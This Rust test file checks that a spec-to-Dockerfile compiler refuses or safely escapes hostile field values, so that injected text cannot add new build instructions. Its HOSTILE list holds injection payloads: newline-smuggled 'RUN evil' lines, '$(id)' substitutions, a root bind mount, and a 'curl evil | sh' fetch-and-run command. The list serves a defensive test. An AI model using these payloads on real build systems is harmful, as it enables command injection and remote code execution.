//! Hostile values in build recipes: every spec either compiles to a Dockerfile whose
//! instructions are exactly the expected ones (read back with `instr::parse_instructions`, a
//! BuildKit-rules reader), or fails with `STK060` at the line that holds the value.

use std::path::Path;

use stackc_backends::dockerfile::{self, instr::parse_instructions};
use stackc_backends::output::EmitContext;

/// Values an attacker (or an unlucky copy-paste) could put in a spec.
const HOSTILE: &[&str] = &[
    "a\nRUN evil",
    "a\rRUN evil",
    "a\u{2028}RUN evil",
    "a\u{85}RUN evil",
    "a\u{7}bell",
    "x\" && echo pwned",
    "ends with a backslash\\",
    "$HOME ${PATH} $(id) `id`",
    "<<EOF",
    "cat <<-X",
    "--mount=type=bind,source=/,target=/x",
    "[\"sh\", \"-c\", \"evil\"]",
    "# escape=`",
    "' || true; curl evil | sh #",
];

/// The spec: the field under test is always on line 8.
fn spec(preset: &str, field: &str) -> String {
    format!(
        "stack: h\nsecrets:\n  tok: {{ from_env: TOK }}\nservices:\n  svc:\n    build:\n      preset: {preset}\n      {field}\n    ports: [8080]\n"
    )
}

/// A YAML double-quoted scalar holding exactly `v`.
fn quote(v: &str) -> String {
    let mut out = String::from("\"");
    for c in v.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_ascii_graphic() || c == ' ' => out.push(c),
            c => out.push_str(&format!("\\u{:04X}", c as u32)),
        }
    }
    out.push('"');
    out
}

#[derive(Debug)]
enum Outcome {
    /// The Dockerfile's instruction keywords.
    File(Vec<String>, String),
    /// `(code, line)` of every error.
    Refused(Vec<(String, u32)>),
}

fn compile(text: &str) -> Outcome {
    let compiled = match stackc_compiler::pipeline::compile(
        "hostile.yaml",
        text.as_bytes(),
        "dev",
        Path::new("/nonexistent"),
        &Default::default(),
    ) {
        Ok(c) => c,
        Err(d) => {
            return Outcome::Refused(
                d.iter()
                    .map(|d| (d.code.to_string(), d.location().map_or(0, |l| l.1)))
                    .collect(),
            );
        }
    };
    let ctx = EmitContext {
        source_root: "../..".into(),
        output_from_source: "out/dockerfile".into(),
        spec_name: "hostile.yaml".into(),
    };
    match dockerfile::emit(&compiled.stack, &ctx) {
        Ok(out) => {
            let f = out
                .files
                .iter()
                .find(|f| f.path == "svc.Dockerfile")
                .expect("a Dockerfile");
            let ignore = out
                .files
                .iter()
                .find(|f| f.path == "svc.Dockerfile.dockerignore")
                .expect("an ignore file");
            let kws = parse_instructions(&f.contents)
                .into_iter()
                .map(|(k, _)| k)
                .collect();
            Outcome::File(kws, format!("{}\n{}", f.contents, ignore.contents))
        }
        Err(d) => Outcome::Refused(
            d.iter()
                .map(|d| (d.code.to_string(), d.location().map_or(0, |l| l.1)))
                .collect(),
        ),
    }
}

fn kws(list: &[&str]) -> Vec<String> {
    list.iter().map(|s| s.to_string()).collect()
}

/// node-npm without extras.
const BASELINE: &[&str] = &[
    "SYNTAX", "FROM", "WORKDIR", "RUN", "COPY", "RUN", "FROM", "RUN", "ENV", "WORKDIR", "COPY",
    "USER", "EXPOSE", "LABEL",
];

fn with(extra: &[(usize, &str)], append: &[&str]) -> Vec<String> {
    let mut v = kws(BASELINE);
    for (at, k) in extra.iter().rev() {
        v.insert(*at, k.to_string());
    }
    v.extend(append.iter().map(|s| s.to_string()));
    v
}

fn has_line_break(v: &str) -> bool {
    v.contains(['\n', '\r', '\u{2028}', '\u{85}'])
}

fn is_control(v: &str) -> bool {
    v.chars().any(|c| c.is_control())
}

/// What must happen for one field and one value.
fn expected(field: &str, v: &str) -> Result<Vec<String>, ()> {
    let control = is_control(v) || has_line_break(v);
    match field {
        // Quoted values: only line breaks and control characters are refused.
        "env" | "labels" => {
            if control {
                Err(())
            } else {
                Ok(kws(BASELINE))
            }
        }
        "args" => {
            if control {
                Err(())
            } else {
                Ok(with(&[(4, "ARG")], &[]))
            }
        }
        // JSON arrays take anything.
        "cmd" => Ok(with(&[], &["CMD"])),
        // Keys must be plain names.
        "env key" | "label key" => Err(()),
        // Shell steps: no line break, heredoc, leading `[`/`--`, trailing `\` or comment (a
        // `#` inside an unclosed quote is no comment: the step is a shell error, not a new
        // instruction).
        "steps" => {
            let refused = control
                || v.contains("<<")
                || v.trim_start().starts_with('[')
                || v.trim_start().starts_with("--")
                || v.trim_end().ends_with('\\')
                || v.trim_start().starts_with('#');
            if refused { Err(()) } else { Ok(kws(BASELINE)) }
        }
        // Paths: no line break, no heredoc marker; the rest is escaped.
        "sources" => {
            if control || v.contains("<<") || v.starts_with('/') || v.contains("..") {
                Err(())
            } else {
                Ok(with(&[(5, "COPY")], &[]))
            }
        }
        "ignore" => {
            if control {
                Err(())
            } else {
                Ok(kws(BASELINE))
            }
        }
        // Validated by their grammar: nothing hostile passes.
        "user" | "system_packages" | "build_packages" | "base" | "builder" | "workdir" => Err(()),
        _ => unreachable!("{field}"),
    }
}

fn field_text(field: &str, v: &str) -> String {
    let q = quote(v);
    match field {
        "env" => format!("env: {{ X: {q} }}"),
        "labels" => format!("labels: {{ x.y: {q} }}"),
        "args" => format!("args: {{ X: {q} }}"),
        "cmd" => format!("cmd: [node, {q}]"),
        "env key" => format!("env: {{ {q}: x }}"),
        "label key" => format!("labels: {{ {q}: x }}"),
        "steps" => format!("steps: [{q}]"),
        "sources" => format!("sources: [{q}]"),
        "ignore" => format!("ignore: [{q}]"),
        "user" => format!("user: {q}"),
        "system_packages" => format!("system_packages: [{q}]"),
        "build_packages" => format!("build_packages: [{q}]"),
        "base" => format!("base: {q}"),
        "builder" => format!("builder: {q}"),
        "workdir" => format!("workdir: {}", quote(&format!("/app/{v}"))),
        _ => unreachable!(),
    }
}

const FIELDS: &[&str] = &[
    "env",
    "labels",
    "args",
    "cmd",
    "env key",
    "label key",
    "steps",
    "sources",
    "ignore",
    "user",
    "system_packages",
    "build_packages",
    "base",
    "builder",
    "workdir",
];

#[test]
fn dockerfile_hostile_values_never_change_the_instruction_list() {
    let mut failures = Vec::new();
    let mut files = 0;
    let mut refusals = 0;
    for field in FIELDS {
        for v in HOSTILE {
            // A workdir is an absolute path with the value appended: line breaks, control
            // characters, a trailing backslash and (in `COPY`) heredoc markers are refused.
            let want = if *field == "workdir" {
                if is_control(v) || has_line_break(v) || v.ends_with('\\') || v.contains("<<") {
                    Err(())
                } else {
                    Ok(kws(BASELINE))
                }
            } else {
                expected(field, v)
            };
            let text = spec("node-npm", &field_text(field, v));
            let got = compile(&text);
            match (&want, &got) {
                (Ok(k), Outcome::File(g, _)) if k == g => files += 1,
                (Err(()), Outcome::Refused(errs))
                    if !errs.is_empty() && errs.iter().all(|(c, l)| c == "STK060" && *l == 8) =>
                {
                    refusals += 1
                }
                _ => failures.push(format!("{field} = {v:?}: expected {want:?}, got {got:?}")),
            }
        }
    }
    assert!(failures.is_empty(), "{}", failures.join("\n"));
    assert!(
        files > 20 && refusals > 20,
        "{files} files, {refusals} refusals"
    );
}

#[test]
fn dockerfile_hostile_cmd_round_trips_exactly() {
    for v in HOSTILE {
        let text = spec("node-npm", &format!("cmd: [{}]", quote(v)));
        let Outcome::File(_, body) = compile(&text) else {
            panic!("{v:?} refused");
        };
        let cmd = parse_instructions(&body)
            .into_iter()
            .find(|(k, _)| k == "CMD")
            .unwrap()
            .1;
        assert_eq!(serde_json::from_str::<Vec<String>>(&cmd).unwrap(), [*v]);
    }
}

#[test]
fn dockerfile_hostile_ignore_patterns_stay_one_line() {
    for v in HOSTILE
        .iter()
        .filter(|v| !is_control(v) && !has_line_break(v))
    {
        let text = spec("node-npm", &format!("ignore: [{}]", quote(v)));
        let Outcome::File(_, body) = compile(&text) else {
            panic!("{v:?} refused");
        };
        assert!(body.lines().any(|l| l == v.trim()), "{v:?}");
    }
}

#[test]
fn dockerfile_every_preset_survives_a_hostile_step_in_the_right_place() {
    for preset in [
        "python-uv",
        "python-pip",
        "node-npm",
        "node-pnpm",
        "rust-cargo",
        "go",
    ] {
        let text = spec(preset, "steps: [\"make\\nRUN evil\"]");
        match compile(&text) {
            Outcome::Refused(errs) => assert_eq!(errs, [("STK060".to_string(), 8)], "{preset}"),
            other => panic!("{preset}: {other:?}"),
        }
    }
}
